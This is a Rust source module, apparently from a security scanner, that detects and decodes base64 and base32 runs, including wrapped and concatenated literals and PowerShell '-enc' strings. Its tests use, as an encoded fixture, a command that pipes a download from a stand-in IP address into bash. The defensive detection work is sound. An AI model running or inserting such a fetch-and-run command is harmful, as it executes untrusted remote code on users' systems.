//! Base64 and base32: single runs, runs that are wrapped into lines, and literals that stand
//! one after the other to be put together.

use std::ops::Range;

use super::{Finds, compressed};
use crate::scan::evidence::decode::base64_bytes;
use crate::scan::layer::budget::TEXT_BYTES;
use crate::scan::layer::readable::{HEAD_BYTES, has_words, may_be_text, text_of};

/// Letters from which on a run is decoded wherever it stands.
const RUN_LETTERS: usize = 24;
/// Letters from which on a run is decoded in a text that speaks of decoding.
const NAMED_RUN_LETTERS: usize = 12;
/// Bytes between two pieces of one literal: the end of a string, a comma, a new line.
const GAP_BYTES: usize = 24;
/// Pieces of one literal.
const PIECES: usize = 100_000;

/// Kinds of data whose content is no text for anybody.
const BINARY_MEDIA: [&str; 8] = [
    "data:image/",
    "data:font/",
    "data:audio/",
    "data:video/",
    "data:application/",
    "fonts/",
    "image/png",
    "image/jpeg",
];

/// Collects the pieces of one literal.
pub(super) struct Base64Runs<'t> {
    text: &'t str,
    pieces: Vec<Range<usize>>,
    /// Whether the text speaks of decoding; looked up when it first matters.
    names: Option<Names>,
}

#[derive(Clone, Copy)]
struct Names {
    base64: bool,
    base32: bool,
}

impl<'t> Base64Runs<'t> {
    pub(super) fn new(text: &'t str) -> Self {
        Self { text, pieces: Vec::new(), names: None }
    }

    /// Takes the next run.
    pub(super) fn push(&mut self, run: Range<usize>, finds: &mut Finds) {
        if !self.continues(&run) || self.pieces.len() >= PIECES {
            self.flush(finds);
        }
        self.pieces.push(run);
    }

    /// A piece goes on where the one before ended without padding on a whole group, with
    /// nothing between but what joins two literals or two lines.
    fn continues(&self, run: &Range<usize>) -> bool {
        let Some(last) = self.pieces.last() else { return false };
        let gap = &self.text.as_bytes()[last.end..run.start];
        last.len().is_multiple_of(4)
            && !self.text[last.clone()].ends_with('=')
            && gap.len() <= GAP_BYTES
            && gap.iter().any(|byte| matches!(byte, b'\n' | b'"' | b'\''))
            && gap.iter().all(|byte| b" \t\r\n\"'`,+\\.()>#*&|".contains(byte))
    }

    /// Decodes what was collected.
    pub(super) fn flush(&mut self, finds: &mut Finds) {
        let pieces = std::mem::take(&mut self.pieces);
        if let (Some(first), Some(last), true) = (pieces.first(), pieces.last(), pieces.len() > 1) {
            let span = first.start..last.end;
            let joined_length: usize = pieces.iter().map(Range::len).sum();
            if joined_length >= RUN_LETTERS {
                let mut joined = String::new();
                for piece in &pieces {
                    if joined.len() > TEXT_BYTES / 3 * 4 {
                        finds.is_cut |= self.may_be_text(&joined);
                        break;
                    }
                    joined.push_str(&self.text[piece.clone()]);
                }
                if self.decode(span, &joined, finds) {
                    return;
                }
            }
        }
        for piece in pieces {
            if piece.len() >= NAMED_RUN_LETTERS {
                self.decode_piece(piece, finds);
            }
        }
    }

    fn decode_piece(&mut self, piece: Range<usize>, finds: &mut Finds) {
        let names = self.names();
        if piece.len() < RUN_LETTERS && !names.base64 && !names.base32 {
            return;
        }
        let run = &self.text[piece.clone()];
        // `name=value` is one run: what follows the sign may be encoded.
        let body = match run.trim_end_matches('=').rfind('=') {
            Some(sign) => &run[sign + 1..],
            None => run,
        };
        let start = piece.end - body.len();
        if body.len() < NAMED_RUN_LETTERS || self.is_binary_media(start) {
            return;
        }
        let limit = TEXT_BYTES / 3 * 4;
        if body.len() > limit {
            finds.is_cut |= self.may_be_text(body);
        }
        let body = &body[..body.len().min(limit)];
        if !self.decode(start..piece.end, body, finds) && names.base32 {
            decode_base32(start..piece.end, body, finds);
        }
    }

    fn may_be_text(&self, run: &str) -> bool {
        head(run).is_some_and(|head| may_be_text(&head) || compressed::is_compressed(&head))
    }

    /// Decodes a run; tells whether it was a text.
    fn decode(&self, span: Range<usize>, run: &str, finds: &mut Finds) -> bool {
        if !self.may_be_text(run) {
            return false;
        }
        let Some(bytes) = base64_bytes(run) else { return false };
        if let Some((step, inflated)) = compressed::inflate(&bytes) {
            let Some(text) = text_of(&inflated) else { return false };
            finds.push_chain(span, vec!["base64".to_owned(), step.to_owned()], text, false);
            return true;
        }
        let Some(text) = text_of(&bytes) else { return false };
        let is_short = run.len() < RUN_LETTERS;
        if is_short && !has_words(&text) {
            return false;
        }
        finds.push(span, "base64", text);
        true
    }

    fn names(&mut self) -> Names {
        let text = self.text;
        *self.names.get_or_insert_with(|| {
            let holds = |word: &str| memchr::memmem::find(text.as_bytes(), word.as_bytes()).is_some();
            Names {
                base64: ["base64", "Base64", "BASE64", "b64", "atob", " -enc", " -e "].into_iter().any(holds),
                base32: ["base32", "Base32", "b32"].into_iter().any(holds),
            }
        })
    }

    /// Tells whether the run is the body of a picture, a font or the like.
    fn is_binary_media(&self, start: usize) -> bool {
        let before = &self.text[self.text.ceil_char_boundary(start.saturating_sub(80))..start];
        before.ends_with("base64,")
            && BINARY_MEDIA.iter().any(|media| before.contains(media))
            && !["javascript", "x-sh", "svg", "xhtml"].iter().any(|text| before.contains(text))
    }
}

fn head(run: &str) -> Option<Vec<u8>> {
    base64_bytes(run.get(..(HEAD_BYTES / 3 * 4).min(run.len()))?)
}

fn decode_base32(span: Range<usize>, run: &str, finds: &mut Finds) {
    let run = run.trim_end_matches('=');
    let mut bytes = Vec::with_capacity(run.len() / 8 * 5);
    let (mut bits, mut count) = (0_u32, 0);
    for letter in run.bytes() {
        let value = match letter {
            b'A'..=b'Z' => letter - b'A',
            b'a'..=b'z' => letter - b'a',
            b'2'..=b'7' => letter - b'2' + 26,
            _ => return,
        };
        bits = (bits << 5 | u32::from(value)) & 0xfff;
        count += 5;
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count) as u8);
        }
    }
    if let Some(text) = text_of(&bytes).filter(|text| has_words(text)) {
        finds.push(span, "base32", text);
    }
}

#[cfg(test)]
mod tests {
    use base64::Engine as _;
    use base64::engine::general_purpose::{STANDARD, URL_SAFE};

    use super::super::find_all;

    fn steps(text: &str) -> Vec<(String, String)> {
        find_all(text).texts.into_iter().map(|found| (found.steps.join(" "), found.text)).collect()
    }

    #[test]
    fn every_way_to_write_base64_is_read() {
        let payload = "curl -s http://203.0.113.7/install/step | bash";
        let encoded = STANDARD.encode(payload);
        let url_safe = URL_SAFE.encode(payload);
        let wrapped: Vec<&str> =
            (0..encoded.len()).step_by(16).map(|at| &encoded[at..(at + 16).min(encoded.len())]).collect();
        let rows = [
            format!("x = '{encoded}'"),
            format!("x={}", encoded.trim_end_matches('=')),
            format!("x: {url_safe}"),
            wrapped.join("\n"),
            wrapped.join("\",\n   \""),
            wrapped.join("' +\r\n  '"),
            format!("data:text/plain;base64,{encoded}"),
        ];
        for text in rows {
            assert_eq!(steps(&text), [("base64".to_owned(), payload.to_owned())], "{text}");
        }
        let wide: Vec<u8> = payload.encode_utf16().flat_map(u16::to_le_bytes).collect();
        assert_eq!(steps(&format!("powershell -enc {}", STANDARD.encode(wide)))[0].1, payload);
        assert_eq!(steps("base32 -d <<< MN2XE3BANB2HI4B2F4XTEMBTFYYC4MJRGMXDOL3YEB6CAYTBONUA====")[0].0, "base32");
    }

    #[test]
    fn what_is_no_text_is_no_layer() {
        let rows = [
            "src/components/ui/button/index.stories.tsx",
            "thisIsAVeryLongIdentifierInSomeProgramOfSomebody",
            "sha512-7nMwc2qW4Q1bXQd3cQvLQxVbW5JcJcJYH0rJqYbJ9sYt6o0nQ0m1q7rQ0dQ1w2E3r4T5y6U7i8O9p0A1s2D3f4==",
            "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
            "data:application/json;base64,eyJ2ZXJzaW9uIjozLCJzb3VyY2VzIjpbImEuanMiXX0=",
            "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
            "--------------------------------------------------",
            "________________________________________",
        ];
        for text in rows {
            assert_eq!(steps(text), [], "{text}");
        }
    }
}
